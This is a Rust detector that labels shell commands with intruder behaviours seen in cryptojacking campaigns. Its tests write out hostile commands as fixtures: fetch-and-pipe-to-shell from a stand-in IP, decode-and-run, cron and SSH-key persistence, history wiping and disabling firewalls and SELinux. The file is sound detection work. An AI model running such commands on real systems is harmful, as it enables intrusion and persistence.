//! What a command typed into a shell does, as far as intruders do it more often than others.
//!
//! Sources: the orders quoted in reports on Kinsing (Aqua 2020), TeamTNT (Unit 42 2021), Outlaw (public cowrie reports) and
//! Rocke (Fortinet 2019); MITRE ATT&CK T1105, T1053.003, T1070.003, T1222.002, T1562.001, T1098.004.

/// Longest command looked at, and longest address kept.
const COMMAND: usize = 8192;
const URL: usize = 512;

/// Something a command does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Deed {
    /// It fetches something and hands it to an interpreter.
    FetchesAndRuns,
    /// It fetches something and makes it a program.
    FetchesAndMarks,
    /// It decodes something and hands it to an interpreter.
    DecodesAndRuns,
    /// It makes a file unchangeable, or changeable again.
    Locks,
    /// It replaces a table of cron by what it is given, or writes into one.
    WritesCron,
    /// It puts a library before all others.
    Preloads,
    /// It lets a key log in.
    AddsKey,
    /// It keeps the shell from remembering, or makes it forget.
    Forgets,
    /// It ends what guards the machine.
    LowersGuard,
    /// It ends miners by name.
    KillsMiners,
}

/// What a command does, each once and in the order of the type, and the first address it fetches from.
#[must_use]
pub fn deeds(command: &str) -> (Vec<Deed>, Option<String>) {
    let command = command.get(..floor(command, COMMAND)).unwrap_or_default();
    let trimmed = command.trim_start();
    // Remarks, searches and what only shows or explains: nothing is done.
    let verb = trimmed.split_ascii_whitespace().next().unwrap_or_default();
    if trimmed.starts_with('#') || (SHOWS.contains(&verb) && !command.contains(['|', '>', ';', '&', '`'])) {
        return (Vec::new(), None);
    }
    let calls = calls(command);
    let url = calls.iter().find(|call| is_fetcher(call)).and_then(|call| url_in(call));
    let fetches = calls.iter().position(is_fetcher);
    let decodes = calls.iter().position(|call| is_decoder(call));
    // An interpreter that gets what came before it through a pipe, or by substitution.
    let runs_after = |at: Option<usize>| {
        at.is_some_and(|at| calls.iter().skip(at + 1).take(4).any(|call| call.piped && is_interpreter(call)))
    };
    let substituted = |names: &[&str]| {
        let opens = ["$(", "<(", "`"];
        names.iter().any(|name| opens.iter().any(|open| command.contains(&format!("{open}{name} "))))
            && (calls
                .iter()
                .any(|call| is_interpreter(call) || ["source", ".", "eval"].contains(&call.name())))
    };
    let does = |deed: Deed| match deed {
        Deed::FetchesAndRuns => runs_after(fetches) || substituted(&["curl", "wget"]),
        Deed::FetchesAndMarks => fetches.is_some_and(|at| calls.iter().skip(at + 1).any(marks)),
        Deed::DecodesAndRuns => runs_after(decodes) || substituted(&["base64"]),
        Deed::Locks => calls.iter().any(|call| {
            call.name() == "chattr"
                && call.words().any(|word| {
                    word.starts_with(['+', '-']) && word.contains(['i', 'a']) && !word.starts_with("--")
                })
        }),
        Deed::WritesCron => calls.iter().any(|call| {
            (call.name() == "crontab" && call.words().nth(1) == Some("-"))
                || call.writes("/etc/cron")
                || call.writes("/var/spool/cron")
        }),
        Deed::Preloads => calls.iter().any(|call| call.writes("/etc/ld.so.preload")),
        Deed::AddsKey => calls.iter().any(|call| call.writes(".ssh/authorized_keys")),
        Deed::Forgets => calls.iter().any(|call| {
            let words: Vec<&str> = call.words().take(4).collect();
            let memory = words.iter().any(|word| word.contains("_history"));
            match words.first().copied().unwrap_or_default() {
                "history" => words.contains(&"-c"),
                "unset" => words.iter().any(|word| word.starts_with("HIST")),
                "export" | "set" | "declare" => words.iter().any(|word| is_forgetting(word)),
                "rm" | "shred" | "ln" => memory,
                word => is_forgetting(word) || call.writes("_history"),
            }
        }),
        Deed::LowersGuard => calls.iter().any(lowers),
        Deed::KillsMiners => {
            calls.iter().any(|call| {
                ["pkill", "killall", "kill"].contains(&call.name())
                    && MINERS.iter().any(|name| call.text.contains(name))
            }) || (command.contains("kill") && command.contains("grep") && {
                calls
                    .iter()
                    .any(|call| call.name() == "grep" && MINERS.iter().any(|name| call.text.contains(name)))
            })
        }
    };
    (ALL.into_iter().filter(|deed| does(*deed)).collect(), url)
}

const ALL: [Deed; 10] = [
    Deed::FetchesAndRuns,
    Deed::FetchesAndMarks,
    Deed::DecodesAndRuns,
    Deed::Locks,
    Deed::WritesCron,
    Deed::Preloads,
    Deed::AddsKey,
    Deed::Forgets,
    Deed::LowersGuard,
    Deed::KillsMiners,
];

/// Words that show, search or explain.
const SHOWS: [&str; 10] = ["echo", "printf", "grep", "man", "cat", "less", "vi", "vim", "nano", "history"];
/// Names by which intruders end each other (the scripts of Kinsing, TeamTNT and Sysrv).
const MINERS: [&str; 8] =
    ["xmrig", "kinsing", "kdevtmpfsi", "kthreaddi", "minerd", "cryptonight", "stratum", "sysrv"];

/// One command of a line.
struct Call<'a> {
    text: &'a str,
    /// It reads what the one before writes.
    piped: bool,
}

impl<'a> Call<'a> {
    /// The words, those that only change how the command runs left out.
    fn words(&self) -> impl Iterator<Item = &'a str> + use<'a> {
        let quiet = |word: &&str| {
            ["sudo", "nohup", "exec", "command", "-E", "time", "then", "do", "else", "{"].contains(word)
        };
        let words = self.text.split_ascii_whitespace().skip_while(quiet);
        words.map(|word| word.trim_matches(['"', '\'', '(', ')']))
    }

    /// What is called, without its folder.
    fn name(&self) -> &'a str {
        let first = self.words().next().unwrap_or_default();
        first.rsplit('/').next().unwrap_or_default()
    }

    /// Whether its output, or a copy, goes into a file of such a name.
    fn writes(&self, name: &str) -> bool {
        let redirected = self.text.split('>').skip(1).any(|rest| {
            let target = rest.trim_start_matches(['>', '|', ' ']);
            target.split_ascii_whitespace().next().is_some_and(|target| target.contains(name))
        });
        redirected
            || (["tee", "cp", "mv"].contains(&self.name())
                && self.words().last().is_some_and(|word| word.contains(name)))
    }
}

/// The commands of a line, cut at `|`, `;`, `&` and line breaks outside quotation marks.
fn calls(command: &str) -> Vec<Call<'_>> {
    let (mut calls, mut begin, mut quote, mut piped) = (Vec::new(), 0, None, false);
    let bytes = command.as_bytes();
    for (at, &byte) in bytes.iter().enumerate() {
        match (quote, byte) {
            (Some(open), byte) if open == byte => quote = None,
            (None, b'"' | b'\'') => quote = Some(byte),
            (None, b'|' | b';' | b'\n' | b'&') => {
                // `2>&1` and `&>file` redirect.
                let redirects =
                    byte == b'&' && (at > 0 && bytes[at - 1] == b'>' || bytes.get(at + 1) == Some(&b'>'));
                if redirects {
                    continue;
                }
                let text = command.get(begin..at).unwrap_or_default();
                if !text.trim().is_empty() {
                    calls.push(Call { text, piped });
                }
                let double = bytes.get(at + 1) == Some(&b'|') || (at > 0 && bytes[at - 1] == b'|');
                piped = byte == b'|' && !double;
                begin = at + 1;
            }
            _ => {}
        }
        if calls.len() >= 256 {
            return calls;
        }
    }
    let text = command.get(begin..).unwrap_or_default();
    if !text.trim().is_empty() {
        calls.push(Call { text, piped });
    }
    calls
}

fn is_fetcher(call: &Call<'_>) -> bool {
    let fetches = ["curl", "wget", "lwp-download", "fetch", "tftp", "ftpget"].contains(&call.name());
    let inside = ["$(curl ", "$(wget ", "<(curl ", "<(wget ", "`curl ", "`wget "];
    (fetches && call.words().nth(1).is_some()) || inside.iter().any(|word| call.text.contains(word))
}

fn is_decoder(call: &Call<'_>) -> bool {
    let decodes = |word: &str| matches!(word, "-d" | "-D" | "--decode" | "-di");
    ["base64", "base32", "openssl"].contains(&call.name()) && call.words().any(decodes)
        || call.name() == "xxd" && call.words().any(|word| word.starts_with("-r"))
}

fn is_interpreter(call: &Call<'_>) -> bool {
    let name = call.name().trim_end_matches(|letter: char| letter.is_ascii_digit() || letter == '.');
    ["sh", "bash", "dash", "zsh", "ksh", "ash", "python", "perl", "php", "ruby", "node"].contains(&name)
}

/// `chmod +x`, `chmod 777`, `chmod u+x`.
fn marks(call: &Call<'_>) -> bool {
    let is_mode = |word: &str| {
        word.ends_with("+x")
            || word.ends_with("+rx")
            || (word.len() >= 3
                && word.bytes().all(|digit| (b'0'..=b'7').contains(&digit))
                && word.contains(['7', '5', '1']))
    };
    call.name() == "chmod" && call.words().skip(1).any(is_mode)
}

fn is_forgetting(word: &str) -> bool {
    ["HISTFILE=/dev/null", "HISTSIZE=0", "HISTFILESIZE=0", "HISTFILE="].contains(&word)
}

fn lowers(call: &Call<'_>) -> bool {
    const GUARDS: [&str; 12] = [
        "firewalld",
        "apparmor",
        "iptables",
        "nftables",
        "ufw",
        "auditd",
        "aliyun",
        "aegis",
        "cloudmonitor",
        "fail2ban",
        "falcon",
        "wazuh",
    ];
    let words: Vec<&str> = call.words().take(8).collect();
    let has = |word: &str| words.contains(&word);
    match call.name() {
        "setenforce" => has("0") || has("Permissive"),
        "ufw" => has("disable"),
        "iptables" | "ip6tables" => has("-F") || has("--flush"),
        "nft" => has("flush") && has("ruleset"),
        "systemctl" | "service" => {
            (has("stop") || has("disable") || has("mask"))
                && words.iter().any(|word| GUARDS.iter().any(|guard| word.starts_with(guard)))
        }
        _ => false,
    }
}

/// The first address of a command.
fn url_in(call: &Call<'_>) -> Option<String> {
    let words = call
        .text
        .split(|letter: char| letter.is_whitespace() || matches!(letter, '"' | '\'' | '`' | ')' | '('));
    let url = words.into_iter().find(|word| word.contains("://") && !word.starts_with('-'));
    let bare = || call.words().skip(1).find(|word| !word.starts_with('-') && word.contains('.'));
    let url = url.or_else(bare)?;
    Some(url.get(..floor(url, URL))?.to_owned())
}

/// The last place up to `most` where a letter begins.
fn floor(text: &str, most: usize) -> usize {
    (0..=most.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0)
}

/// Exercises this file with any bytes.
#[doc(hidden)]
pub fn fuzz(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let (deeds, url) = deeds(&text);
    assert!(deeds.is_sorted() && deeds.len() <= ALL.len(), "each deed is said once");
    assert!(url.is_none_or(|url| url.len() <= URL), "an address is bounded");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, expected: &[Deed]) {
        assert_eq!(deeds(command).0, expected, "{command}");
    }

    #[test]
    fn what_intruders_type() {
        check("curl -fsSL http://203.0.113.9/d.sh | sh", &[Deed::FetchesAndRuns]);
        check(
            "(curl -s http://203.0.113.9/a||wget -q -O- http://203.0.113.9/a)|bash -s x",
            &[Deed::FetchesAndRuns],
        );
        check("bash <(curl -s http://203.0.113.9/a)", &[Deed::FetchesAndRuns]);
        check("sh -c \"$(wget -qO- http://203.0.113.9/a)\"", &[Deed::FetchesAndRuns]);
        check("wget http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", &[Deed::FetchesAndMarks]);
        check("cd /tmp; wget http://203.0.113.9/x; chmod 777 x; ./x", &[Deed::FetchesAndMarks]);
        check("echo ZWNobw== | base64 -d | bash", &[Deed::DecodesAndRuns]);
        check("chattr +i /etc/crontab", &[Deed::Locks]);
        check(
            "cd ~; chattr -ia .ssh; rm -rf .ssh; mkdir .ssh; echo \"ssh-rsa AAAA x\">>.ssh/authorized_keys",
            &[Deed::Locks, Deed::AddsKey],
        );
        check("echo '* * * * * /tmp/x' | crontab -", &[Deed::WritesCron]);
        check("echo '* * * * * root /tmp/x' >> /etc/crontab", &[Deed::WritesCron]);
        check("echo /usr/local/lib/x.so > /etc/ld.so.preload", &[Deed::Preloads]);
        check("unset HISTFILE", &[Deed::Forgets]);
        check("export HISTFILE=/dev/null; history -c", &[Deed::Forgets]);
        check("setenforce 0; systemctl stop aliyun.service; iptables -F", &[Deed::LowersGuard]);
        check("pkill -f kdevtmpfsi", &[Deed::KillsMiners]);
        check("ps aux | grep kinsing | awk '{print $2}' | xargs kill -9", &[Deed::KillsMiners]);
    }

    #[test]
    fn what_admins_type() {
        for command in [
            "curl https://pool.example/api | jq .",
            "wget https://files.example/x.tar.gz && tar xf x.tar.gz",
            "crontab -l",
            "crontab -e",
            "cat ~/.bash_history",
            "chmod +x run.sh",
            "# curl http://203.0.113.9/d.sh | sh",
            "grep 'curl http://203.0.113.9/d.sh' /var/log/syslog",
            "python3 -m http.server 2>&1 | tee log",
            "lsattr /etc/crontab",
            "echo hello | base64 -d",
            "systemctl stop nginx",
            "cat /etc/ld.so.preload",
            "vim /etc/crontab",
            "curl",
        ] {
            check(command, &[]);
        }
    }

    #[test]
    fn whence() {
        let url = |command| deeds(command).1;
        assert_eq!(
            url("curl --proto '=https' -sSf https://sh.rustup.rs | sh").as_deref(),
            Some("https://sh.rustup.rs")
        );
        assert_eq!(
            url("sh -c \"$(curl -fsSL https://get.example/x)\"").as_deref(),
            Some("https://get.example/x")
        );
        assert_eq!(url("wget -q 203.0.113.9/x.sh").as_deref(), Some("203.0.113.9/x.sh"));
        assert_eq!(url("ls"), None);
    }
}
